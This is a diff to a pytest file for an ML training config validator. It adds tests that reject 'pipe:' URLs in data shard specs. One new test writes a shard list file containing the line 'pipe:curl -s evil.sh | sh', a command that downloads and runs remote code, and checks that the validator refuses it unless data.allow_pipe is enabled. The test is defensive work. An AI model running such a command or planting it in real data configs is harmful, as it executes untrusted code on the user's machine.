@@ -82,6 +82,8 @@ BAD = [
     (["dist.strategy=deepspeed", "dist.reduce_dtype=bf16"], "dist.reduce_dtype=bf16 is an FSDP2 setting"),
     (["max_steps=ten"], "max_steps must be an integer"),
     (["eval.val_timesteps=[5, 1000]"], r"eval.val_timesteps=\[5, 1000\] must lie in \[0, 1000\)"),
+    (["eval.num_val_samples=0"], r"eval.num_val_samples=0 must be positive: to turn the validation loss off set"),
+    (["data.val_shards=pipe:cat v.tar"], r"data.val_shards='pipe:cat v.tar': the shard spec: .* is a `pipe:` URL"),
     (["checkpoint.every_minutes=-1"], r"checkpoint.every_minutes=-1.0 must be >= 0"),
     (["dist.reshard_after_forward=1.5"], "dist.reshard_after_forward must be bool or int, got 1.5"),
     (["dist.reshard_after_forward=1"], "dist.reshard_after_forward=1: an integer must be a group size of at least 2"),
@@ -105,6 +107,19 @@ def test_posthoc_ema_passes_under_deepspeed(good, stage):
     extra = ["dist.strategy=deepspeed", f"dist.zero_stage={stage}", "ema.posthoc.sigma_rels=[0.05,0.1]"]
     cfg, _ = validated_config(["--config", "configs/test.yaml", *overrides, *extra])
     assert (cfg.dist.strategy, cfg.dist.zero_stage, cfg.ema.posthoc.sigma_rels) == ("deepspeed", stage, [0.05, 0.1])
+
+
+def test_pipe_in_a_list_file_refused_unless_allowed(good):
+    """A list file that names a `pipe:` URL is refused before anything starts, naming the file and
+    the switch; with data.allow_pipe=true it is accepted (the command runs only when read)."""
+    root, overrides = good
+    listing = root / "shipped.txt"
+    listing.write_text("".join(f"{root}/shards/s-{i:06d}.tar\n" for i in range(3)) + "pipe:curl -s evil.sh | sh\n")
+    argv = ["--config", "configs/test.yaml", *overrides, f"data.train_shards={listing}"]
+    with pytest.raises(ConfigError, match=rf"data.train_shards=.*the list file {listing}: 'pipe:curl.*allow_pipe=true"):
+        validated_config(argv)
+    cfg, _ = validated_config([*argv, "data.allow_pipe=true"])
+    assert cfg.data.allow_pipe
 
 
 @pytest.mark.parametrize("bad,match", BAD, ids=[b[0][0] for b in BAD])
